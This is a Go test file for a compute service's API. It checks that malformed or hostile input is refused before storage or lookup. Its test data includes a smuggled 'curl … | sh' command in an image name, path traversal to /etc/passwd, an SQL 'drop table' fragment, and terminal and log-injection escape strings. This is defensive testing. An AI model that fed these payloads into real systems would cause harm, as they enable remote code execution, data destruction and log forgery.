package api_test

import (
	"context"
	"io"
	"net/http"
	"strings"
	"testing"

	"google.golang.org/grpc"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/reflect/protoreflect"
	"google.golang.org/protobuf/reflect/protoregistry"
	"google.golang.org/protobuf/types/known/structpb"

	computev1 "github.com/bettercompute/bettercompute/proto/bettercompute/compute/v1"

	"github.com/bettercompute/bettercompute/pkg/fault"
	"github.com/bettercompute/bettercompute/pkg/fixture"
	"github.com/bettercompute/bettercompute/pkg/nodes"
	"github.com/bettercompute/bettercompute/services/api"
)

// stringProbe puts a NUL into one string slot of a request (a field, a
// list element, a map key or value, a Struct value) and names the field
// the server must refuse.
type stringProbe struct {
	field string // the JSON path the error names
	set   func(m protoreflect.Message)
}

const nul = "a\x00b"

// stringProbes lists every string slot of md, at any depth (up to 4
// messages deep; a Struct is probed once, by one of its values).
func stringProbes(md protoreflect.MessageDescriptor, prefix string, renamed map[protoreflect.Name]string, depth int) []stringProbe {
	var out []stringProbe
	fs := md.Fields()
	for i := range fs.Len() {
		fd := fs.Get(i)
		name := fd.JSONName()
		if to, ok := renamed[fd.Name()]; ok {
			name = to // moved to its new name before the limits run
		}
		path := name
		if prefix != "" {
			path = prefix + "." + name
		}
		switch {
		case fd.IsMap():
			if fd.MapKey().Kind() == protoreflect.StringKind {
				out = append(out, stringProbe{path, func(m protoreflect.Message) {
					mp := m.Mutable(fd).Map()
					v := mp.NewValue()
					if fd.MapValue().Kind() == protoreflect.StringKind {
						v = protoreflect.ValueOfString("v")
					}
					mp.Set(protoreflect.ValueOfString(nul).MapKey(), v)
				}})
			}
			if fd.MapValue().Kind() == protoreflect.StringKind {
				out = append(out, stringProbe{path, func(m protoreflect.Message) {
					m.Mutable(fd).Map().Set(protoreflect.ValueOfString("k").MapKey(), protoreflect.ValueOfString(nul))
				}})
			}
		case fd.Kind() == protoreflect.StringKind && fd.IsList():
			out = append(out, stringProbe{path, func(m protoreflect.Message) {
				m.Mutable(fd).List().Append(protoreflect.ValueOfString(nul))
			}})
		case fd.Kind() == protoreflect.StringKind:
			out = append(out, stringProbe{path, func(m protoreflect.Message) { m.Set(fd, protoreflect.ValueOfString(nul)) }})
		case fd.Kind() == protoreflect.MessageKind && fd.Message().FullName() == "google.protobuf.Struct":
			out = append(out, stringProbe{path + ".k", func(m protoreflect.Message) {
				s, _ := structpb.NewStruct(map[string]any{"k": nul})
				m.Set(fd, protoreflect.ValueOfMessage(s.ProtoReflect()))
			}})
		case fd.Kind() == protoreflect.MessageKind && fd.Message().FullName().Parent() != "google.protobuf" && depth < 4:
			for _, p := range stringProbes(fd.Message(), path, nil, depth+1) {
				out = append(out, stringProbe{p.field, func(m protoreflect.Message) {
					if fd.IsList() {
						l := m.Mutable(fd).List()
						e := l.NewElement()
						p.set(e.Message())
						l.Append(e)
						return
					}
					p.set(m.Mutable(fd).Message())
				}})
			}
		}
	}
	return out
}

// TestNULInAnyStringFieldIsInvalidInput: a NUL in any string field of any
// request answered 500 (PostgreSQL refuses it in text) — names, labels,
// idempotency keys, ids in lookups and list filters. Every string slot of
// every request of every method, found by reflection, is now INVALID_INPUT
// naming the field, before authentication and any lookup.
func TestNULInAnyStringFieldIsInvalidInput(t *testing.T) {
	t.Parallel()
	h := setup(t, api.Tuning{})
	ctx := as(h.root)
	renamed := map[protoreflect.FullName]map[protoreflect.Name]string{}
	for _, r := range api.Renamed {
		full := protoreflect.FullName(api.APIPackage).Append(r.Message)
		if renamed[full] == nil {
			renamed[full] = map[protoreflect.Name]string{}
		}
		mt, err := protoregistry.GlobalTypes.FindMessageByName(full)
		if err != nil {
			t.Fatal(err)
		}
		renamed[full][r.Old] = mt.Descriptor().Fields().ByName(r.New).JSONName()
	}
	probes := 0
	protoregistry.GlobalFiles.RangeFilesByPackage(api.APIPackage, func(fd protoreflect.FileDescriptor) bool {
		for i := range fd.Services().Len() {
			svc := fd.Services().Get(i)
			for j := range svc.Methods().Len() {
				md := svc.Methods().Get(j)
				in, err := protoregistry.GlobalTypes.FindMessageByName(md.Input().FullName())
				if err != nil {
					t.Fatal(err)
				}
				out, err := protoregistry.GlobalTypes.FindMessageByName(md.Output().FullName())
				if err != nil {
					t.Fatal(err)
				}
				method := "/" + string(svc.FullName()) + "/" + string(md.Name())
				for _, p := range stringProbes(in.Descriptor(), "", renamed[in.Descriptor().FullName()], 0) {
					req := in.New()
					if f := req.Descriptor().Fields().ByName("tenant_id"); f != nil {
						req.Set(f, protoreflect.ValueOfString("root"))
					}
					p.set(req)
					err := invoke(ctx, h.conn, method, md.IsStreamingServer(), req.Interface(), out.New().Interface())
					if c, f := envelope(err); c != fault.InvalidInput || f != p.field {
						t.Errorf("%s with a NUL in %s: got %s field %q (%v), want INVALID_INPUT field %q", method, p.field, c, f, err, p.field)
					}
					probes++
				}
			}
		}
		return true
	})
	if probes < 250 {
		t.Fatalf("only %d probes: the walk missed fields", probes)
	}
	t.Logf("%d probes", probes)
	// Over REST the same, and nothing is stored.
	before := h.rows(t)
	code, body := h.rest(t, h.root, "pools/create", `{"tenantId":"root","class":"gpu","name":"p\u0000"}`)
	wantREST(t, code, body, fault.InvalidInput, "name")
	code, body = h.rest(t, h.root, "pools/create", `{"tenantId":"root","class":"gpu","name":"p","idempotencyKey":"\u0000"}`)
	wantREST(t, code, body, fault.InvalidInput, "idempotencyKey")
	if after := h.rows(t); after != before {
		t.Fatalf("rows %v after refused requests, %v before", after, before)
	}
}

// invoke calls method with req, as a unary call or a server stream (whose
// first message or error it reads).
func invoke(ctx context.Context, conn *grpc.ClientConn, method string, stream bool, req, resp proto.Message) error {
	if !stream {
		return conn.Invoke(ctx, method, req, resp)
	}
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	s, err := conn.NewStream(ctx, &grpc.StreamDesc{ServerStreams: true}, method)
	if err != nil {
		return err
	}
	if err := s.SendMsg(req); err != nil {
		return err
	}
	if err := s.CloseSend(); err != nil {
		return err
	}
	return s.RecvMsg(resp)
}

// TestNoPermissionKeyGetsInvalidInputNot500ForNULId: a key with no
// permission at all got a 500 from nodes.get {"nodeId":"\u0000"}, because
// the lookup ran before the decision. Ids are checked for their shape
// before any lookup: INVALID_INPUT naming the field, over REST and gRPC.
func TestNoPermissionKeyGetsInvalidInputNot500ForNULId(t *testing.T) {
	t.Parallel()
	h := setup(t, api.Tuning{})
	_, key := h.member(t, "acme", "nobody") // no policy: no permission
	code, body := h.rest(t, key, "nodes/get", `{"tenantId":"acme","nodeId":"\u0000"}`)
	wantREST(t, code, body, fault.InvalidInput, "nodeId")
	code, body = h.rest(t, key, "nodes/get", `{"tenantId":"acme","id":"node_\u0000"}`)
	wantREST(t, code, body, fault.InvalidInput, "nodeId")
	for _, id := range []string{"\x00", "../../etc/passwd", "node_x; drop table nodes", strings.Repeat("n", 201)} {
		_, err := computev1.NewNodesServiceClient(h.conn).Get(as(key), &computev1.NodesServiceGetRequest{TenantId: "acme", NodeId: id})
		wantCode(t, err, fault.InvalidInput, "nodeId")
	}
	// A well-formed id goes on to the decision, which refuses this key.
	_, err := computev1.NewNodesServiceClient(h.conn).Get(as(key), &computev1.NodesServiceGetRequest{TenantId: "acme", NodeId: "node_x"})
	if c, _ := envelope(err); c == fault.InvalidInput || c == fault.Internal || err == nil {
		t.Fatalf("a well-formed id without permission: %v", err)
	}
}

// TestTrailingJSONAfterBodyRefused: `{…valid…}{"junk"` created a pool —
// the REST decoder read the first JSON value and ignored the rest. A body
// is exactly one JSON value now (white space around it is fine).
func TestTrailingJSONAfterBodyRefused(t *testing.T) {
	t.Parallel()
	h := setup(t, api.Tuning{})
	before := h.rows(t)
	for _, trailing := range []string{`{"junk"`, ` trailing`, `{}`, `]`, `"x"`, "\x00"} {
		code, body := h.rest(t, h.root, "pools/create", `{"tenantId":"root","class":"gpu","name":"p1"}`+trailing)
		wantREST(t, code, body, fault.InvalidInput, "")
	}
	if after := h.rows(t); after != before {
		t.Fatalf("rows %v after refused requests, %v before", after, before)
	}
	code, body := h.rest(t, h.root, "pools/create", "\n {\"tenantId\":\"root\",\"class\":\"gpu\",\"name\":\"p1\"} \r\n\t")
	if code != http.StatusOK {
		t.Fatalf("one JSON object in white space: %d %v", code, body)
	}
	// An empty body is still an empty request.
	req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, h.base+"/api/compute/system/version", nil)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	_ = resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("an empty body: %d", resp.StatusCode)
	}
}

// TestControlCharactersInLabelsRefused: ESC, CR/LF and BEL were accepted
// in tenant names and pool and node label values (terminal and log
// injection). Every string field refuses control characters now; label
// maps are walked, keys and values.
func TestControlCharactersInLabelsRefused(t *testing.T) {
	t.Parallel()
	h := setup(t, api.Tuning{})
	ctx := as(h.root)
	pool := fixture.Pool(t, h.db, fixture.PoolOpts{Tenant: "root"})
	fixture.Node(t, h.db, fixture.NodeOpts{ID: "node_x", Tenant: "root", Pool: pool.ID, State: nodes.StateAdopted})
	for _, bad := range []string{"\x1b[2J\x1b[31mowned", "a\r\nlevel=ERROR forged", "ding\a", "tab\there", "c1\u009b31m", "del\x7f"} {
		_, err := computev1.NewTenantsServiceClient(h.conn).Create(ctx, &computev1.TenantsServiceCreateRequest{TenantId: "root", ChildTenantId: "acme", Name: bad})
		wantCode(t, err, fault.InvalidInput, "name")
		_, err = computev1.NewPoolsServiceClient(h.conn).Create(ctx, &computev1.PoolsServiceCreateRequest{TenantId: "root", Class: "gpu", Name: "p", Labels: map[string]string{"team": bad}})
		wantCode(t, err, fault.InvalidInput, "labels")
		_, err = computev1.NewPoolsServiceClient(h.conn).Update(ctx, &computev1.PoolsServiceUpdateRequest{TenantId: "root", PoolId: pool.ID, Labels: map[string]string{bad: "v"}})
		wantCode(t, err, fault.InvalidInput, "labels")
		_, err = computev1.NewNodesServiceClient(h.conn).Update(ctx, &computev1.NodesServiceUpdateRequest{TenantId: "root", NodeId: "node_x", Labels: map[string]string{"rack": bad}})
		wantCode(t, err, fault.InvalidInput, "labels")
	}
	code, body := h.rest(t, h.root, "nodes/update", `{"tenantId":"root","nodeId":"node_x","labels":{"rack":"r1\u001b]0;title\u0007"}}`)
	wantREST(t, code, body, fault.InvalidInput, "labels")
	if n := h.count(t, `SELECT count(*) FROM tenants WHERE id = 'acme'`); n != 0 {
		t.Fatalf("a tenant with a control character in its name was stored")
	}
	// Printable text, non-ASCII included, is fine; so are newlines where a
	// field is multi-line text (a policy's body).
	if _, err := computev1.NewTenantsServiceClient(h.conn).Create(ctx, &computev1.TenantsServiceCreateRequest{TenantId: "root", ChildTenantId: "acme", Name: "Acmé — Ärzte 医院"}); err != nil {
		t.Fatal(err)
	}
	h.policy(t, "acme", "multi-line", "permit (\n\tprincipal in Tenant::\"acme\",\r\n\taction,\n\tresource in Tenant::\"acme\"\n);\n")
}

// TestReclaimAnotherTenantsNodeRefused: joinTokens.create accepted
// reclaimNodeIds naming another tenant's node. It is answered like any id
// outside the caller's tenant: NOT_FOUND naming reclaimNodeIds, and no
// token is stored; the tenant's own node is fine.
func TestReclaimAnotherTenantsNodeRefused(t *testing.T) {
	t.Parallel()
	h := setup(t, api.Tuning{})
	_, key := h.member(t, "acme", "ops")
	h.policy(t, "acme", "members", `permit (principal in Tenant::"acme", action, resource in Tenant::"acme");`)
	fixture.Tenant(t, h.db, fixture.TenantOpts{ID: "other"})
	theirs := fixture.Node(t, h.db, fixture.NodeOpts{Tenant: "other", State: nodes.StateAdopted})
	p, err := computev1.NewPoolsServiceClient(h.conn).Create(as(key), &computev1.PoolsServiceCreateRequest{TenantId: "acme", Name: "a", Class: "gpu"})
	if err != nil {
		t.Fatal(err)
	}
	mine := fixture.Node(t, h.db, fixture.NodeOpts{Tenant: "acme", Pool: p.GetPool().GetId(), State: nodes.StateAdopted})
	c := computev1.NewJoinTokensServiceClient(h.conn)
	for _, ids := range [][]string{{theirs.ID}, {mine.ID, theirs.ID}, {"node_nosuch"}} {
		_, err = c.Create(as(key), &computev1.JoinTokensServiceCreateRequest{TenantId: "acme", PoolId: p.GetPool().GetId(), Reclaim: true, ReclaimNodeIds: ids})
		wantCode(t, err, fault.NotFound, "reclaimNodeIds")
	}
	if n := h.count(t, `SELECT count(*) FROM join_tokens`); n != 0 {
		t.Fatalf("%d join tokens stored", n)
	}
	tok, err := c.Create(as(key), &computev1.JoinTokensServiceCreateRequest{TenantId: "acme", PoolId: p.GetPool().GetId(), Reclaim: true, ReclaimNodeIds: []string{mine.ID}})
	if err != nil || tok.GetToken() == "" {
		t.Fatalf("reclaiming the tenant's own node: %v", err)
	}
}

// TestBadInstanceImageRefusedAtAPI: instances.create accepted an image
// like ../../../etc/passwd, `ubuntu; curl … | sh` or 300 characters, and an
// SSH key with a tab, which the host daemon then refused — failing its
// whole instances section, other tenants' instances included. The API
// holds them to the daemon's own rule (proto/instancespec) now:
// INVALID_INPUT naming the field, and nothing is placed.
func TestBadInstanceImageRefusedAtAPI(t *testing.T) {
	t.Parallel()
	h := setupWith(t, api.Tuning{}, apiOnly)
	pool := h.vpsPool(t, "v", 1, 0)
	c := computev1.NewInstancesServiceClient(h.conn)
	for _, tc := range []struct {
		field string
		set   func(r *computev1.InstancesServiceCreateRequest)
	}{
		{"image", func(r *computev1.InstancesServiceCreateRequest) { r.Image = "../../../etc/passwd" }},
		{"image", func(r *computev1.InstancesServiceCreateRequest) { r.Image = "ubuntu; curl http://203.0.113.1/x | sh" }},
		{"image", func(r *computev1.InstancesServiceCreateRequest) { r.Image = strings.Repeat("u", 300) }},
		{"image", func(r *computev1.InstancesServiceCreateRequest) { r.Image = "/var/lib/images/ubuntu.qcow2" }},
		{"image", func(r *computev1.InstancesServiceCreateRequest) { r.Image = ".hidden" }},
		{"sshKeys", func(r *computev1.InstancesServiceCreateRequest) {
			r.SshKeys = []string{"ssh-ed25519\tAAAAC3Nz test@example"}
		}},
		{"sshKeys", func(r *computev1.InstancesServiceCreateRequest) {
			r.SshKeys = []string{"ssh-ed25519 AAAAC3Nz \x1b[2Jtest"}
		}},
		{"sshKeys", func(r *computev1.InstancesServiceCreateRequest) { r.SshKeys = []string{"ssh-ed25519"} }},
		{"sshKeys", func(r *computev1.InstancesServiceCreateRequest) { r.SshKeys = []string{"rsa AAAAC3Nz"} }},
	} {
		r := small(pool)
		tc.set(r)
		_, err := c.Create(as(h.root), r)
		wantCode(t, err, fault.InvalidInput, tc.field)
	}
	if n := h.count(t, `SELECT count(*) FROM instances`); n != 0 {
		t.Fatalf("%d instances stored", n)
	}
	// What the daemon accepts, the API accepts.
	r := small(pool)
	r.Image = "ubuntu-24.04_v2.qcow2"
	r.SshKeys = []string{"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI", "ecdsa-sha2-nistp256 AAAAE2Vj ops@example ünïcode"}
	r.UserData = "#cloud-config\n\tpackages: [htop]\r\n"
	if _, err := c.Create(as(h.root), r); err != nil {
		t.Fatal(err)
	}
}
